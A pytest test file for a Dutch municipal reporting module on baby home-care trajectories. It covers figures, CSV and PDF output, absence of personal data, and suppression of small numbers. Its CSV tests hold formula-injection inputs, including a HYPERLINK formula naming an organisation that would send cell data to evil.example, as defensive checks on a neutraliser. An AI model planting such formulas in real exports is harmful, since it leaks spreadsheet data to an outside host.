"""The Periodeverantwoording: the figures of one municipality over one period, its CSV and its PDF.

The dataset is made by hand so every expected number can be worked out on paper (see the comments).
The period is September 2026; times are local (Europe/Amsterdam, UTC+2 in September).
"""

import csv
import io
import re
from datetime import date, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.utils import translation
from django.utils.translation import gettext

from rapportage.csvbestand import neutraliseer
from rapportage.pdf import render_pdf
from rapportage.periode import (
    REFERENTIE_KOSTEN_PER_TRAJECT,
    REFERENTIE_TEVREDENHEID_CLIENT,
    REFERENTIE_TEVREDENHEID_PARTNER,
    periode_cijfers,
)
from rapportage.periode_bescherming import beschermd
from rapportage.periode_opmaak import periode_context, periode_csv
from tests.factories import (
    AanmeldingFactory,
    AfsluitingFactory,
    BabyFactory,
    EvaluatieDoelFactory,
    EvaluatieFactory,
    GezinFactory,
    HuisbezoekFactory,
    IndicatieFactory,
    OndersteuningsplanFactory,
    OrganisatieFactory,
    OuderFactory,
    TrajectFactory,
    ZorgdoelFactory,
)

AMS = ZoneInfo("Europe/Amsterdam")
VAN = date(2026, 9, 1)
TOT = date(2026, 9, 30)
REGIE = {"regie_naam": "J. de Groot", "regie_skj": "1234567"}


def moment(dag: date, uur: int, minuut: int = 0) -> datetime:
    return datetime(dag.year, dag.month, dag.day, uur, minuut, tzinfo=AMS)


def traject(
    gemeente, *, status="actief", gestart_op=None, ontvangen_op=None, verwijzer="huisarts", factoren=()
):
    # Distinctive names, so "not in the PDF text" cannot pass or fail by chance on a common word.
    gezin = GezinFactory(gemeente=gemeente, straat="Wubbinastraat", postcode="9999 ZZ")
    OuderFactory(gezin=gezin, voornaam=f"Zwaantje{gezin.pk}x", achternaam=f"Quaedvlieg{gezin.pk}x")
    BabyFactory(gezin=gezin, voornaam=f"Sjoukje{gezin.pk}x")
    regie = REGIE if status in {"actief", "afsluiten", "afgesloten"} else {}
    t = TrajectFactory(gezin=gezin, status=status, gestart_op=gestart_op, **regie)
    if ontvangen_op:
        AanmeldingFactory(
            traject=t, ontvangen_op=ontvangen_op, verwijzer_soort=verwijzer, kwetsbaarheden=list(factoren)
        )
    return t


def indicatie(t, van, tot, uren, tarief):
    return IndicatieFactory(
        traject=t,
        van=van,
        tot=tot,
        uren_per_week=Decimal(uren),
        uurtarief=Decimal(tarief),
        budget=Decimal(50000),
    )


def bezoek(t, start: datetime, uren: float, dienst="dag", **kwargs):
    return HuisbezoekFactory(
        traject=t, start=start, eind=start + timedelta(hours=uren), dienst=dienst, **kwargs
    )


def afsluiten(t, op: datetime, uitkomst="zelfredzaam", client=None, partner=None, **kwargs):
    return AfsluitingFactory(
        traject=t,
        uitkomst=uitkomst,
        tevredenheid_client=client,
        tevredenheid_partner=partner,
        afgesloten_op=op,
        **kwargs,
    )


@pytest.fixture
def data(gemeente, andere_gemeente):
    """The hand-made world. Expected figures for September 2026 are in the test below."""
    # T1: referred before the period, started 4 Sept (waited 15 days), active throughout.
    t1 = traject(gemeente, gestart_op=date(2026, 9, 4), ontvangen_op=date(2026, 8, 20), factoren=["armoede"])
    indicatie(t1, date(2026, 9, 4), date(2026, 12, 31), 12, 60)  # 27 days in Sept: 27 × 12/7
    bezoek(t1, moment(date(2026, 9, 10), 10), 3)  # day, 3 h × € 60
    bezoek(t1, moment(TOT, 23), 8, "nacht")  # starts on the last day: in; 8 h × € 60
    bezoek(t1, moment(date(2026, 10, 1), 0, 30), 2, "nacht")  # 22:30 UTC on the last day, local 1 Oct: out
    bezoek(t1, moment(date(2026, 9, 12), 10), 2, vervangen=True)  # superseded by a correction: out
    plan_t1 = OndersteuningsplanFactory(traject=t1, versie=1)
    ZorgdoelFactory(plan=plan_t1, thema="huilgedrag", status="bereikt")  # not closed: not counted

    # T2: referred 3 Sept by the midwife, started 13 Sept (10 days), scaled down on 21 Sept, closed 30 Sept.
    t2 = traject(
        gemeente,
        status="afgesloten",
        gestart_op=date(2026, 9, 13),
        ontvangen_op=date(2026, 9, 3),
        verwijzer="verloskundige",
        factoren=["huilbaby", "geen_netwerk"],
    )
    indicatie(t2, date(2026, 9, 13), date(2026, 9, 20), 24, 50)  # 8 days × 24/7
    indicatie(t2, date(2026, 9, 21), date(2026, 10, 31), 12, 55)  # 10 days in Sept × 12/7
    # 00:30 local on 13 Sept is still 12 Sept in UTC: the tariff follows the local day (€ 50, not nothing).
    bezoek(t2, moment(date(2026, 9, 13), 0, 30), 4, "nacht")  # 4 h × € 50
    bezoek(t2, moment(date(2026, 9, 22), 18), 3, "avond")  # 3 h × € 55
    afsluiten(t2, moment(TOT, 12), "zelfredzaam", client=9, partner=8)  # duration 17 days
    oud = OndersteuningsplanFactory(traject=t2, versie=1)
    ZorgdoelFactory(plan=oud, thema="veiligheid", status="bereikt")  # superseded plan: not counted
    plan = OndersteuningsplanFactory(traject=t2, versie=2)
    huilen = ZorgdoelFactory(plan=plan, thema="huilgedrag", status="bereikt")
    slaap = ZorgdoelFactory(plan=plan, thema="slaap_waakritme", status="bezig")
    later = EvaluatieFactory(
        traject=t2, gepland_op=date(2026, 9, 28), gehouden_op=date(2026, 9, 28), conclusie="afsluiten"
    )
    eerder = EvaluatieFactory(
        traject=t2, gepland_op=date(2026, 9, 20), gehouden_op=date(2026, 9, 20), conclusie="voortzetten"
    )
    niet_gehouden = EvaluatieFactory(traject=t2, gepland_op=date(2026, 10, 20))
    EvaluatieDoelFactory(evaluatie=later, doel=huilen, realisatie=8)  # latest for this goal
    EvaluatieDoelFactory(evaluatie=eerder, doel=huilen, realisatie=6)
    EvaluatieDoelFactory(evaluatie=eerder, doel=slaap, realisatie=5)
    EvaluatieDoelFactory(evaluatie=niet_gehouden, doel=slaap, realisatie=1)  # not held: ignored

    # T3: started in June, closed at 00:30 local on 1 Sept (still 31 Aug in UTC): closed in the period.
    t3 = traject(gemeente, status="afgesloten", gestart_op=date(2026, 6, 15), ontvangen_op=date(2026, 6, 1))
    indicatie(t3, date(2026, 6, 15), date(2026, 9, 10), 6, 60)  # 10 days in Sept × 6/7
    bezoek(t3, moment(date(2026, 7, 1), 10), 2)  # before the period: only in its trajectory cost
    bezoek(t3, moment(date(2026, 9, 5), 10), 1)  # 1 h × € 60
    afsluiten(t3, moment(VAN, 0, 30), "overgedragen", client=7, overgedragen_aan="Sociaal team")  # 78 days
    ZorgdoelFactory(
        plan=OndersteuningsplanFactory(traject=t3, versie=1), thema="dagstructuur", status="bereikt"
    )

    # T4: closed the day after the period: active in it, not closed in it.
    t4 = traject(gemeente, status="afgesloten", gestart_op=date(2026, 5, 1), ontvangen_op=date(2026, 4, 20))
    indicatie(t4, date(2026, 5, 1), date(2026, 10, 31), "3.5", 60)  # 30 days × 0.5
    afsluiten(t4, moment(date(2026, 10, 1), 8), "verhuisd", client=2, partner=2)
    # T5: closed the evening before the period: not active in it.
    t5 = traject(gemeente, status="afgesloten", gestart_op=date(2026, 3, 1), ontvangen_op=date(2026, 2, 20))
    afsluiten(t5, moment(date(2026, 8, 31), 20), "voortijdig_gestopt", client=1, partner=1)
    # T6: referred on the last day, not started. T7: referred the day after. T8: started the day after.
    traject(gemeente, status="aangemeld", ontvangen_op=TOT, verwijzer="sociaal_team")
    traject(gemeente, status="aangemeld", ontvangen_op=date(2026, 10, 1), factoren=["armoede"])
    traject(gemeente, gestart_op=date(2026, 10, 1), ontvangen_op=date(2026, 9, 20), factoren=["armoede"])
    # T10: started on the last day after 60 days' wait.
    traject(gemeente, gestart_op=TOT, ontvangen_op=date(2026, 8, 1))

    # Another municipality: everything in the period, nothing of it may count.
    t9 = traject(
        andere_gemeente,
        status="afgesloten",
        gestart_op=date(2026, 9, 2),
        ontvangen_op=date(2026, 9, 1),
        factoren=["armoede"],
    )
    indicatie(t9, date(2026, 9, 2), date(2026, 9, 29), 40, 70)
    bezoek(t9, moment(date(2026, 9, 3), 10), 5)
    afsluiten(t9, moment(date(2026, 9, 29), 12), "zelfredzaam", client=1, partner=1)
    ZorgdoelFactory(
        plan=OndersteuningsplanFactory(traject=t9, versie=1), thema="veiligheid", status="bereikt"
    )
    return {"t1": t1, "t2": t2, "t3": t3}


def cijfers(gemeente, van=VAN, tot=TOT):
    with translation.override("nl"):
        return periode_cijfers(gemeente=gemeente, van=van, tot=tot)


def per(rijen, sleutel="aantal"):
    return {r["code"]: r[sleutel] for r in rijen}


# --- the figures --------------------------------------------------------------------------------


def test_referrals_by_referrer_type_in_the_period_only(data, gemeente):
    c = cijfers(gemeente)
    # In: T2 (3 Sept, midwife), T6 (30 Sept, social team), T8 (20 Sept, GP). Out: T1, T7 (1 Oct), other town.
    assert c["aanmeldingen"]["totaal"] == 3
    assert per(c["aanmeldingen"]["per_verwijzer"]) == {
        "huisarts": 1, "verloskundige": 1, "jgz": 0, "mmw": 0, "gynaecoloog": 0,
        "kraamzorg": 0, "sociaal_team": 1, "anders": 0,
    }  # fmt: skip
    labels = {r["code"]: r["label"] for r in c["aanmeldingen"]["per_verwijzer"]}
    assert labels["verloskundige"] == "Verloskundige"


def test_vulnerability_factors_of_the_referrals_in_the_period(data, gemeente):
    factoren = cijfers(gemeente)["kwetsbaarheden"]
    assert factoren["aanmeldingen"] == 3
    aantallen = per(factoren["per_factor"])
    # T2 names two, T8 one, T6 none; T1's and T7's "armoede" lie outside the period.
    assert aantallen["huilbaby"] == 1
    assert aantallen["geen_netwerk"] == 1
    assert aantallen["armoede"] == 1
    assert sum(aantallen.values()) == 3
    assert per(factoren["per_factor"], "procent")["armoede"] == Decimal("33.3")


def test_started_active_closed_and_waiting_time(data, gemeente):
    c = cijfers(gemeente)
    assert c["trajecten"] == {"gestart": 3, "actief": 5, "afgesloten": 2}
    # Waits of T1, T2, T10: 15, 10 and 60 days.
    assert c["wachttijd"] == {
        "aantal": 3,
        "gemiddeld_dagen": Decimal("28.3"),
        "mediaan_dagen": Decimal("15.0"),
    }


def test_duration_outcomes_and_satisfaction_of_closed_trajectories(data, gemeente):
    c = cijfers(gemeente)
    # T2: 13 → 30 Sept = 17 days; T3: 15 June → 1 Sept = 78 days.
    assert c["duur"] == {
        "aantal": 2,
        "gemiddeld_dagen": Decimal("47.5"),
        "mediaan_dagen": Decimal("47.5"),
        "gemiddeld_weken": Decimal("6.8"),
    }
    uitkomsten = per(c["uitkomsten"]["per_uitkomst"])
    assert c["uitkomsten"]["totaal"] == 2
    assert uitkomsten["zelfredzaam"] == 1
    assert uitkomsten["overgedragen"] == 1
    assert uitkomsten["verhuisd"] == 0  # T4 closed the day after
    assert c["tevredenheid"]["client"] == {
        "gemiddeld": Decimal("8.0"),
        "aantal": 2,
        "referentie": REFERENTIE_TEVREDENHEID_CLIENT,
    }
    assert c["tevredenheid"]["partner"]["gemiddeld"] == Decimal("8.0")
    assert c["tevredenheid"]["partner"]["aantal"] == 1
    assert REFERENTIE_TEVREDENHEID_CLIENT == Decimal("9.1")
    assert REFERENTIE_TEVREDENHEID_PARTNER == Decimal("8.3")


def test_hours_indicated_and_delivered_by_shift(data, gemeente):
    uren = cijfers(gemeente)["uren"]
    # (27 × 12 + 8 × 24 + 10 × 12 + 10 × 6) / 7 + 30 × 3.5 / 7 = 696/7 + 15
    assert uren["geindiceerd"] == Decimal("114.43")
    # T1 3 + 8, T2 4 + 3, T3 1; not the corrected visit nor the one at 00:30 on 1 Oct.
    assert uren["geleverd"] == Decimal("19.00")
    assert per(uren["per_dienst"], "uren") == {
        "dag": Decimal("4.00"),
        "avond": Decimal("3.00"),
        "nacht": Decimal("12.00"),
    }
    assert uren["procent_geleverd"] == Decimal("16.6")
    assert [(m["maand"], m["geindiceerd"], m["geleverd"]) for m in uren["per_maand"]] == [
        (date(2026, 9, 1), Decimal("114.43"), Decimal("19.00"))
    ]


def test_cost_uses_the_tariff_in_force_on_the_visit_day(data, gemeente):
    kosten = cijfers(gemeente)["kosten"]
    # 3 × 60 + 8 × 60 + 4 × 50 + 3 × 55 + 1 × 60
    assert kosten["geleverd"] == Decimal("1085.00")
    # Closed in the period, over their whole life: T2 200 + 165, T3 120 + 60 → 545 over 2 trajectories.
    assert kosten["afgesloten_trajecten"] == 2
    assert kosten["afgesloten_totaal"] == Decimal("545.00")
    assert kosten["gemiddeld_per_afgesloten"] == Decimal("272.50")
    assert kosten["referentie"] == REFERENTIE_KOSTEN_PER_TRAJECT == Decimal("6900")
    assert kosten["procent_van_referentie"] == Decimal("3.9")


def test_goal_realisation_by_theme_from_the_last_plan_of_closed_trajectories(data, gemeente):
    doelen = cijfers(gemeente)["doelen"]
    rijen = {r["code"]: r for r in doelen["per_thema"]}
    assert (rijen["huilgedrag"]["doelen"], rijen["huilgedrag"]["bereikt"]) == (
        1,
        1,
    )  # not T1's (still active)
    assert rijen["huilgedrag"]["gemiddelde_realisatie"] == Decimal("8.0")  # the latest evaluation, not 6
    assert rijen["slaap_waakritme"]["gemiddelde_realisatie"] == Decimal("5.0")  # the unheld 1 is ignored
    assert rijen["slaap_waakritme"]["procent_bereikt"] == Decimal("0.0")
    assert (rijen["dagstructuur"]["doelen"], rijen["dagstructuur"]["geevalueerd"]) == (1, 0)
    assert rijen["dagstructuur"]["gemiddelde_realisatie"] is None
    assert rijen["veiligheid"]["doelen"] == 0  # superseded plan of T2, and the other municipality
    assert doelen["totaal"] == {
        "doelen": 3,
        "bereikt": 2,
        "procent_bereikt": Decimal("66.7"),
        "geevalueerd": 2,
        "gemiddelde_realisatie": Decimal("6.5"),
    }


def test_another_municipality_sees_only_its_own_trajectory(data, andere_gemeente):
    c = cijfers(andere_gemeente)
    assert c["aanmeldingen"]["totaal"] == 1
    assert c["trajecten"] == {"gestart": 1, "actief": 1, "afgesloten": 1}
    assert c["uren"]["geleverd"] == Decimal("5.00")
    assert c["kosten"]["geleverd"] == Decimal("350.00")
    assert c["tevredenheid"]["client"]["gemiddeld"] == Decimal("1.0")


def test_an_empty_period_gives_zeros_and_no_means(gemeente):
    c = cijfers(gemeente)
    assert c["aanmeldingen"]["totaal"] == 0
    assert c["trajecten"] == {"gestart": 0, "actief": 0, "afgesloten": 0}
    assert c["wachttijd"]["gemiddeld_dagen"] is None
    assert c["kosten"]["gemiddeld_per_afgesloten"] is None
    assert c["kosten"]["procent_van_referentie"] is None
    assert c["uren"]["geleverd"] == Decimal("0.00")
    assert c["tevredenheid"]["client"]["gemiddeld"] is None
    # The empty report still renders (tables with zeros, charts saying there is no data).
    with translation.override("nl"):
        assert periode_csv(c)
        assert render_pdf("rapportage/pdf/periode.html", periode_context(c))[:5] == b"%PDF-"


def test_visit_on_the_last_day_counts_the_day_after_does_not(gemeente):
    t = traject(gemeente, gestart_op=date(2026, 9, 1), ontvangen_op=date(2026, 8, 1))
    indicatie(t, date(2026, 9, 1), date(2026, 10, 31), 10, 60)
    bezoek(t, moment(TOT, 18), 2, "avond")
    assert cijfers(gemeente)["uren"]["geleverd"] == Decimal("2.00")
    bezoek(t, moment(date(2026, 10, 1), 9), 3)
    assert cijfers(gemeente)["uren"]["geleverd"] == Decimal("2.00")
    assert cijfers(gemeente, tot=date(2026, 10, 1))["uren"]["geleverd"] == Decimal("5.00")


def test_hours_per_month_over_a_period_of_two_partial_months(gemeente):
    t = traject(gemeente, gestart_op=date(2026, 9, 1), ontvangen_op=date(2026, 8, 1))
    indicatie(t, date(2026, 9, 1), date(2026, 10, 31), 7, 60)  # 1 hour a day
    bezoek(t, moment(date(2026, 9, 20), 10), 2)
    bezoek(t, moment(date(2026, 10, 5), 10), 1)
    maanden = cijfers(gemeente, van=date(2026, 9, 16), tot=date(2026, 10, 10))["uren"]["per_maand"]
    assert [(m["maand"], m["geindiceerd"], m["geleverd"]) for m in maanden] == [
        (date(2026, 9, 1), Decimal("15.00"), Decimal("2.00")),
        (date(2026, 10, 1), Decimal("10.00"), Decimal("1.00")),
    ]


# --- aggregate queries: a constant number, whatever the data ------------------------------------


def meer_data(gemeente, n):
    for i in range(n):
        t = traject(
            gemeente,
            status="afgesloten",
            gestart_op=date(2026, 9, 2),
            ontvangen_op=date(2026, 9, 1),
            verwijzer="jgz",
            factoren=["lvb", "schulden"],
        )
        indicatie(t, date(2026, 9, 2), date(2026, 9, 28), 10, 58)
        for dag in (3, 10, 17):
            bezoek(t, moment(date(2026, 9, dag), 9 + i % 5), 2)
        afsluiten(t, moment(date(2026, 9, 28), 12), client=8, partner=7)
        plan = OndersteuningsplanFactory(traject=t, versie=1)
        doel = ZorgdoelFactory(plan=plan, thema="vertrouwen", status="bereikt")
        evaluatie = EvaluatieFactory(
            traject=t, gepland_op=date(2026, 9, 20), gehouden_op=date(2026, 9, 20), conclusie="afsluiten"
        )
        EvaluatieDoelFactory(evaluatie=evaluatie, doel=doel, realisatie=7)


def test_query_count_does_not_grow_with_the_data(data, gemeente, django_assert_max_num_queries):
    with django_assert_max_num_queries(9) as eerste:
        klein = cijfers(gemeente)
    meer_data(gemeente, 12)
    with django_assert_max_num_queries(9) as tweede:
        groot = cijfers(gemeente)
    assert len(tweede.captured_queries) == len(eerste.captured_queries)
    assert groot["trajecten"]["afgesloten"] == klein["trajecten"]["afgesloten"] + 12
    assert per(groot["doelen"]["per_thema"], "doelen")["vertrouwen"] == 12


def test_context_and_csv_make_no_queries(data, gemeente, django_assert_num_queries):
    c = cijfers(gemeente)
    with django_assert_num_queries(0), translation.override("nl"):
        periode_context(c)
        periode_csv(c)


# --- CSV ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cel", "verwacht"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+31 6", "'+31 6"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Huisarts", "Huisarts"),
        ("12,5", "12,5"),
        ("", ""),
    ],
)
def test_neutraliseer_defuses_formula_cells(cel, verwacht):
    assert neutraliseer(cel) == verwacht


def lees_csv(tekst: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(tekst), delimiter=";"))


def test_csv_holds_the_figures_with_dutch_decimals(data, gemeente):
    with translation.override("nl"):
        tekst = periode_csv(cijfers(gemeente))
        _ = gettext  # the labels as the catalogue gives them (Dutch once compiled)
        kop = [_("Section"), _("Item"), _("Measure"), _("Value")]
        sleutels = {
            "gemeente": (_("Period"), _("Municipality"), ""),
            "van": (_("Period"), _("From"), ""),
            "verloskundige": (_("Referrals by referrer type"), "Verloskundige", _("Number")),
            "geindiceerd": (_("Hours"), _("Total"), _("Indicated")),
            "nacht": (_("Hours by shift"), "Nacht", _("Delivered")),
            "maand": (_("Hours per month"), "2026-09", _("Delivered")),
            "gemiddeld": (_("Cost"), _("Average per closed trajectory"), _("Amount (€)")),
            "referentie": (_("Cost"), _("Reference per trajectory (BabythuisZorg)"), _("Amount (€)")),
            "pilot": (_("Satisfaction"), _("Clients"), _("Reference (pilot)")),
            "huilgedrag": (_("Goal realisation"), "Huilgedrag", _("Mean realisation (1–10)")),
            "wachttijd": (_("Waiting time referral to start"), _("Median"), _("Days")),
        }
    rijen = lees_csv(tekst)
    assert tekst.endswith("\r\n")
    assert rijen[0] == kop
    assert all(len(rij) == 4 for rij in rijen)
    waarden = {(r[0], r[1], r[2]): r[3] for r in rijen[1:]}
    assert len(waarden) == len(rijen) - 1  # every figure has its own (section, item, measure)
    verwacht = {
        "gemeente": "Gemeente Groningen",
        "van": "01-09-2026",
        "verloskundige": "1",
        "geindiceerd": "114,43",
        "nacht": "12,00",
        "maand": "19,00",
        "gemiddeld": "272,50",
        "referentie": "6900,00",
        "pilot": "9,1",
        "huilgedrag": "8,0",
        "wachttijd": "15,0",
    }
    assert {naam: waarden[sleutel] for naam, sleutel in sleutels.items()} == verwacht
    # No cell of our own starts with a formula character, so nothing of ours needed defusing.
    assert not any(cel[:1] in "=+-@\t\r'" for rij in rijen for cel in rij if cel)


def test_csv_neutralises_a_hostile_municipality_name(gemeente):
    kwaad = OrganisatieFactory(naam='=HYPERLINK("http://evil.example/?"&A1,"klik")', gemeentecode="0999")
    traject(kwaad, status="aangemeld", ontvangen_op=date(2026, 9, 2))
    with translation.override("nl"):
        tekst = periode_csv(cijfers(kwaad))
    rijen = lees_csv(tekst)
    naam = next(r[3] for r in rijen if r[1] == "Gemeente")
    assert naam == "'" + kwaad.naam
    assert not any(cel.startswith(("=", "+", "-", "@")) for rij in rijen for cel in rij)


# --- PDF ----------------------------------------------------------------------------------------


def pdf_tekst(inhoud: bytes) -> str:
    from pypdf import PdfReader

    return "\n".join(pagina.extract_text() for pagina in PdfReader(io.BytesIO(inhoud)).pages)


def zichtbare_tekst(inhoud: bytes) -> str:
    """What a reader sees: pdftotext (poppler) leaves out text clipped outside the page, which pypdf
    still extracts."""
    import subprocess

    return subprocess.run(
        ["pdftotext", "-", "-"],  # noqa: S607
        input=inhoud,
        capture_output=True,
        check=True,  # noqa: S607
    ).stdout.decode()


@pytest.fixture
def pdf(data, gemeente):
    with translation.override("nl"):
        return render_pdf("rapportage/pdf/periode.html", periode_context(cijfers(gemeente)))


def test_pdf_shows_the_figures_in_dutch(pdf):
    tekst = re.sub(r"\s+", " ", pdf_tekst(pdf))
    with translation.override("nl"):
        assert gettext("Period report") in tekst  # Periodeverantwoording
    assert "1 september 2026" in tekst
    assert "30 september 2026" in tekst
    assert "Gemeente Groningen" in tekst
    assert "114,4" in tekst  # indicated hours
    assert "€ 1.085,00" in tekst  # cost of delivered hours
    assert "€ 272,50" in tekst
    assert "€ 6.900,00" in tekst
    assert "9,1" in tekst
    assert "8,3" in tekst
    assert "Verloskundige" in tekst
    assert "Huilgedrag" in tekst
    assert "Ouders zelfredzaam" in tekst


def test_pdf_holds_no_personal_data(pdf, data):
    tekst = pdf_tekst(pdf)
    for t in data.values():
        gezin = t.gezin
        for ouder in gezin.ouders.all():
            assert ouder.achternaam not in tekst
            assert ouder.voornaam not in tekst
            assert ouder.bsn not in tekst
        for baby in gezin.babys.all():
            if baby.voornaam:
                assert baby.voornaam not in tekst
        assert "Wubbinastraat" not in tekst
        assert "9999 ZZ" not in tekst
        assert t.nummer not in tekst
        assert t.aanmelding.hulpvraag[:30] not in tekst
        assert t.aanmelding.verwijzer_naam not in tekst


def test_a_long_period_has_a_month_per_row_and_still_renders(data, gemeente):
    c = cijfers(gemeente, van=date(2025, 10, 1), tot=date(2026, 9, 30))
    maanden = c["uren"]["per_maand"]
    assert [m["maand"] for m in maanden][:2] == [date(2025, 10, 1), date(2025, 11, 1)]
    assert len(maanden) == 12
    assert maanden[-1]["geleverd"] == Decimal("19.00")
    assert maanden[-3]["geleverd"] == Decimal("2.00")  # T3's visit of 1 July
    assert c["uren"]["geleverd"] == sum(m["geleverd"] for m in maanden)
    with translation.override("nl"):
        context = periode_context(c)
        inhoud = render_pdf("rapportage/pdf/periode.html", context)
    assert len(context["grafieken"]["uren"].rijen) == 12
    assert "polyline" in context["grafieken"]["uren"].svg  # a line over many months
    assert "okt 2025" in pdf_tekst(inhoud).lower()


def test_no_row_is_lost_at_a_page_break(data, gemeente):
    """Twelve months push the cost block over a page break; WeasyPrint 70 dropped the rows of a
    two-column grid that crossed it (issue 12). Every row label of every block must be in the text."""
    c = cijfers(gemeente, van=date(2025, 10, 1), tot=date(2026, 9, 30))
    with translation.override("nl"):
        inhoud = render_pdf("rapportage/pdf/periode.html", periode_context(c))
        labels = [
            "Cost of the hours delivered in the period",
            "Trajectories closed in the period",
            "Their cost over their whole duration",
            "Average per closed trajectory",
            "BabythuisZorg average per trajectory (2023 prices)",
            "Average as a percentage of that",
            "Indicated",
            "Delivered as a percentage of indicated",
            "Delivered by shift",
            "Days from referral to start",
            "Duration of closed trajectories",
            "Goal realisation by theme",
            "Outcomes",
            "Satisfaction",
            "How the figures are counted",
        ]
        verwacht = [gettext(label) for label in labels]
        verwacht += [r["label"] for r in c["aanmeldingen"]["per_verwijzer"]]
        verwacht += [str(r["label"]) for r in c["uren"]["per_dienst"]]
    tekst = re.sub(r"\s+", " ", zichtbare_tekst(inhoud))
    ontbreekt = [label for label in verwacht if re.sub(r"\s+", " ", str(label)) not in tekst]
    assert ontbreekt == []


def test_the_pdf_is_tagged_pdf_a_3b(pdf):
    import subprocess

    info = subprocess.run(["pdfinfo", "-"], input=pdf, capture_output=True, check=True).stdout.decode()  # noqa: S607
    assert "Tagged:          yes" in info
    from pypdf import PdfReader

    metadata = PdfReader(io.BytesIO(pdf)).trailer["/Root"]["/Metadata"].get_object().get_data()
    assert b'pdfaid:part="3" pdfaid:conformance="B"' in metadata


# --- as published: small numbers hidden (issue 13) -----------------------------------------------


def gepubliceerd(gemeente):
    with translation.override("nl"):
        return beschermd(periode_cijfers(gemeente=gemeente, van=VAN, tot=TOT))


def test_published_figures_hide_counts_below_five_and_means_over_fewer_families(data, gemeente):
    c = gepubliceerd(gemeente)
    # Three referrals, one per referrer type: every cell and the total are hidden, a zero is shown.
    assert str(c["aanmeldingen"]["totaal"]) == "< 5"
    verwijzers = per(c["aanmeldingen"]["per_verwijzer"])
    assert str(verwijzers["verloskundige"]) == "< 5"
    assert verwijzers["jgz"] == 0
    assert all(r["procent"] is None for r in c["aanmeldingen"]["per_verwijzer"])
    assert str(c["trajecten"]["gestart"]) == "< 5"
    # Means and sums over fewer than five families (3 started, 2 closed) are hidden; the hours of the
    # period rest on the 5 trajectories active in it and are shown.
    assert str(c["wachttijd"]["mediaan_dagen"]) == "n < 5"
    assert str(c["kosten"]["gemiddeld_per_afgesloten"]) == "n < 5"
    assert str(c["duur"]["gemiddeld_dagen"]) == "n < 5"
    assert c["trajecten"]["actief"] == 5
    assert c["uren"]["geindiceerd"] == Decimal("114.43")
    assert str(c["tevredenheid"]["client"]["gemiddeld"]) == "n < 5"
    # Goals: several can belong to one family; over 2 closed trajectories no percentage or mean.
    assert str(c["doelen"]["totaal"]["gemiddelde_realisatie"]) == "n < 5"
    assert c["doelen"]["totaal"]["procent_bereikt"] is None  # its counts are hidden too
    # What is not about families stays: the references.
    assert c["kosten"]["referentie"] == REFERENTIE_KOSTEN_PER_TRAJECT
    assert c["tevredenheid"]["client"]["referentie"] == REFERENTIE_TEVREDENHEID_CLIENT


def test_published_figures_are_the_exact_ones_when_the_threshold_allows(data, gemeente, settings):
    settings.RAPPORT_KLEINE_AANTALLEN_DREMPEL = 1
    assert gepubliceerd(gemeente) == cijfers(gemeente)


def test_published_figures_hide_one_small_cell_and_the_next_smallest(data, gemeente, settings):
    # Threshold 2: of three outcomes (one each), the single hidden cell would follow from the total.
    settings.RAPPORT_KLEINE_AANTALLEN_DREMPEL = 2
    ruw = cijfers(gemeente)
    ruw["uitkomsten"]["per_uitkomst"][0]["aantal"] = 1
    ruw["uitkomsten"]["per_uitkomst"][1]["aantal"] = 3
    ruw["uitkomsten"]["per_uitkomst"][2]["aantal"] = 4
    for r in ruw["uitkomsten"]["per_uitkomst"][3:]:
        r["aantal"] = 0
    ruw["uitkomsten"]["totaal"] = 8
    rijen = beschermd(ruw)["uitkomsten"]["per_uitkomst"]
    # The second is not small itself: it prints as "×", not as an untrue "< 2".
    assert [str(r["aantal"]) for r in rijen[:3]] == ["< 2", "×", "4"]
    assert beschermd(ruw)["uitkomsten"]["totaal"] == 8


def test_published_pdf_and_csv_show_the_rule_not_the_small_numbers(data, gemeente):
    c = gepubliceerd(gemeente)
    with translation.override("nl"):
        tekst = re.sub(r"\s+", " ", pdf_tekst(render_pdf("rapportage/pdf/periode.html", periode_context(c))))
        csv_tekst = periode_csv(c)
    assert "< 5" in tekst
    assert "n < 5" in tekst
    assert "Kleine aantallen worden niet gepubliceerd" in tekst
    assert "114,4" in tekst  # indicated hours of the 5 active families
    assert "€ 272,50" not in tekst  # the average cost of the 2 closed ones
    assert "€ 6.900,00" in tekst  # the reference is not about a family
    waarden = {(r[0], r[1], r[2]): r[3] for r in lees_csv(csv_tekst)[1:]}
    with translation.override("nl"):
        _ = gettext
        assert waarden[(_("Referrals"), _("Total"), _("Number"))] == "< 5"
        assert waarden[(_("Cost"), _("Average per closed trajectory"), _("Amount (€)"))] == "n < 5"
        assert (
            waarden[(_("Cost"), _("Reference per trajectory (BabythuisZorg)"), _("Amount (€)"))] == "6900,00"
        )
